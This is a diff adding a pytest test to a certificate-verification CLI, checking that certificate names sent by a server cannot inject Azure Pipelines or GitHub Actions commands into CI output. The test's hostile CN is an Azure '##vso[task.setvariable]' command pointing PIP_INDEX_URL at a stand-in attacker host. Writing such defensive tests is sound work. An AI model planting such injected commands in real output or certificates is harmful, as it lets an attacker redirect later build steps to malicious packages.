@@ -419,3 +419,36 @@ def test_a_url_with_a_port_out_of_range_is_said_not_a_traceback(
     assert cli.main(["verify", "--json", "https://pypi.org:99999/"]) == ExitCode.OFFLINE
     payload = json.loads(capsys.readouterr().out)
     assert "valid port" in payload["targets"][0]["advice"][0]
+
+
+AZURE_COMMAND = "##vso[task.setvariable variable=PIP_INDEX_URL]https://e.vil/s"
+
+
+def test_names_a_server_sends_cannot_command_the_ci_system(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Azure Pipelines acts on "##vso[" anywhere in a step's output, GitHub Actions on a
+    line that starts with "::". verify and --from-server print the names of the chain a
+    server sent: a CN like AZURE_COMMAND set PIP_INDEX_URL for every later step, from
+    anyone on the network path. Now no printed line, human or JSON, carries a command;
+    JSON still decodes to the name as sent."""
+    monkeypatch.setenv("TF_BUILD", "True")
+    hostile = make_root(AZURE_COMMAND, organization="::add-mask::x")
+    with HTTPSServer(hostile.issue("127.0.0.1"), tmp_path / "srv", send_root=True) as server:
+        printed = []
+        for args in (
+            ["verify", server.url, "--timeout", "5"],
+            ["--json", "verify", server.url, "--timeout", "5"],
+            ["--no-verify", "--scope", "none", "--from-server", f"127.0.0.1:{server.port}"],
+            ["--json", "--scope", "none", "--from-server", f"127.0.0.1:{server.port}"],
+        ):
+            code = cli.main(args)
+            captured = capsys.readouterr()
+            assert code in (ExitCode.OK, ExitCode.BUNDLE, ExitCode.VERIFY_FAILED), captured
+            printed.append(captured.out + captured.err)
+            if "--json" in args:
+                assert AZURE_COMMAND in json.dumps(json.loads(captured.out), ensure_ascii=False)
+    text = "\n".join(printed)
+    assert "e.vil" in text  # the names are shown...
+    assert "##vso[" not in text.lower()  # ...but none is a command
+    assert not any(line.lstrip().startswith("::") for line in text.splitlines())
